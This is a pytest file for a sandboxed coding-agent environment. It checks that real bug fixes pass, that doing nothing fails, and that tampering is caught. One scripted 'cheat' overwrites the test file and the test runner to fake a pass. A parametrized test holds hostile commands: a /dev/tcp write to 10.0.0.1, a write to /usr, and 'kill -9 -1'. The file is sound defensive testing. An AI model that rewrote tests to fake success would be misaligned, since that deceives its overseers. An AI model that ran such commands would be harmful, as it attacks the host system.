"""The mini-SWE environment in the real sandbox: fixes with sed and python -c pass, doing nothing fails,
editing the tests does not pass, hostile commands end the episode, and a sample of the catalogue's bugs
re-validated (the pure parts are in tests/unit/test_envs_swe.py)."""

from __future__ import annotations

import os
import random
import sys

import pytest

from tentalis_pipelines.envs.agents import do_nothing_agent, oracle_agent, scripted_agent
from tentalis_pipelines.envs.runner import run_episode
from tentalis_pipelines.envs.swe import SweEnv, run_tests
from tentalis_pipelines.envs.swe_repos import repo_tree
from tentalis_pipelines.envs.swe_tasks import held_out_tasks, load_catalogue

needs_sandbox = pytest.mark.skipif(not sys.platform.startswith("linux") or os.geteuid() != 0,
                                   reason="the sandbox needs Linux namespaces and root (CI runs as root)")
ROMAN_BUG = "swe-roman-binary_operator-l014c14"  # line 14: ``n -= value`` became ``n += value`` (an endless loop)


def roman_task():
    return next(t for t in held_out_tasks() if t.task_id == ROMAN_BUG)


@needs_sandbox
def test_a_sed_fix_passes_and_the_fraction_is_recorded():
    task = roman_task()
    assert "-            n += value\n+            n -= value" in task.patch
    ep = run_episode(SweEnv(), task, scripted_agent(["sed -i 's/n += value/n -= value/' roman.py", "python3 run_tests.py"]))
    assert ep.passed and ep.reward == 1.0 and ep.end_reason == "submitted"
    assert "==== 0 failed, 6 passed ====" in ep.turns[1].observation
    assert (ep.turns[-1].info["tests_passed"], ep.turns[-1].info["tests_total"]) == (6, 6)


@needs_sandbox
def test_the_oracle_fix_with_python_c_passes_on_a_sample_of_bugs():
    for task in random.Random(0).sample(held_out_tasks(), 3):
        ep = run_episode(SweEnv(), task, oracle_agent(task))
        assert ep.passed, (task.task_id, ep.verdict.detail)


@needs_sandbox
def test_doing_nothing_fails_and_only_the_pass_to_pass_tests_count():
    task = roman_task()
    ep = run_episode(SweEnv(), task, do_nothing_agent())
    assert not ep.passed and ep.reward == 0.0
    assert ep.verdict.detail.startswith("FAIL_TO_PASS 0/4, PASS_TO_PASS 2/2 (2/6 tests pass)")
    assert (ep.turns[-1].info["tests_passed"], ep.turns[-1].info["tests_total"]) == (2, 6)


@needs_sandbox
def test_editing_the_tests_or_the_runner_does_not_pass():
    task = roman_task()
    cheat = ["printf 'def test_small_numbers():\\n    pass\\n' > test_roman.py",
             "printf 'import sys\\nprint(\"all passed\")\\nsys.exit(0)\\n' > run_tests.py",
             "python3 run_tests.py"]
    ep = run_episode(SweEnv(), task, scripted_agent(cheat))
    assert "all passed" in ep.turns[2].observation  # the cheat worked inside the episode...
    assert not ep.passed and "FAIL_TO_PASS 0/4" in ep.verdict.detail  # ...and the pristine tests still fail


@needs_sandbox
def test_deleting_the_module_fails_with_a_clear_detail():
    ep = run_episode(SweEnv(), roman_task(), scripted_agent(["rm roman.py"]))
    assert not ep.passed and ep.verdict.detail == "roman.py is missing or not a readable text file"


@needs_sandbox
def test_an_edit_counts_at_the_turn_limit_without_submit():
    from tentalis_pipelines.envs.swe import SweConfig, swe_terminal_config

    env = SweEnv(SweConfig(terminal=swe_terminal_config(1)))
    ep = run_episode(env, roman_task(), scripted_agent(["sed -i 's/n += value/n -= value/' roman.py"]))
    assert ep.end_reason == "turn_limit" and ep.passed


@needs_sandbox
@pytest.mark.parametrize("command", ["echo x > /dev/tcp/10.0.0.1/80", "echo x > /usr/evil.txt", "kill -9 -1"])
def test_hostile_commands_end_the_episode_with_reward_zero(command, tmp_path):
    task = roman_task()
    ep = run_episode(SweEnv(), task, scripted_agent([command, "sed -i 's/n += value/n -= value/' roman.py"]))
    if "/dev/tcp" in command:  # a network attempt, seen by the sandbox's network namespace
        assert ep.end_reason.startswith("hostile") and ep.reward == 0.0 and ep.turns_used == 1
    else:  # a refused write (read-only) or killing every process of the sandbox's uid ends that command only;
        # the episode goes on and can pass
        assert ep.end_reason == "submitted"
        assert not os.path.exists("/usr/evil.txt")
    assert run_episode(SweEnv(), task, oracle_agent(task)).passed  # the next episode still works


@needs_sandbox
def test_a_seeded_sample_of_the_catalogue_revalidates_exactly():
    tasks = random.Random(1).sample(load_catalogue(), 6)
    for task in tasks:
        run = run_tests(task.tree)
        assert run.results is not None, run.error
        assert sorted(t for t, v in run.results.items() if v == "FAILED") == task.fail_to_pass, task.task_id
        assert sorted(t for t, v in run.results.items() if v == "PASSED") == task.pass_to_pass, task.task_id
    pristine = run_tests(repo_tree("rpn"))
    assert pristine.results and set(pristine.results.values()) == {"PASSED"}
